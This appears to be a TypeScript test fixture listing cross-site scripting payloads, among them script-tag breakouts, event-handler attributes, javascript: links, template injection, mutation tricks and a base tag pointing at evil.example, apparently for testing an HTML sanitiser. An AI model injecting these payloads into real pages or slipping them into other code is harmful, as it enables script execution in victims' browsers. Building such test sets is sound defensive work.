/** OWASP's and PortSwigger's shapes, for markup, attributes, addresses, templates and the JSON in a page. */
export const PAYLOADS = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<svg/onload=alert(1)>',
  '</script><script>alert(1)</script>',
  '<!--<script>alert(1)//-->',
  '" onmouseover="alert(1)" x="',
  'javascript:alert(1)',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '\u2028</script><script>alert(1)</script>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  // What a browser reads in another way the second time (mutation), and what runs or leads away without a script.
  '<noscript><p title="</noscript><svg onload=alert(1)>">',
  '<style><a title="</style><svg onload=alert(1)>">',
  '<details open ontoggle=alert(1)>x</details>',
  '<base href=//evil.example/>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '[x](javascript:alert(1))',
];
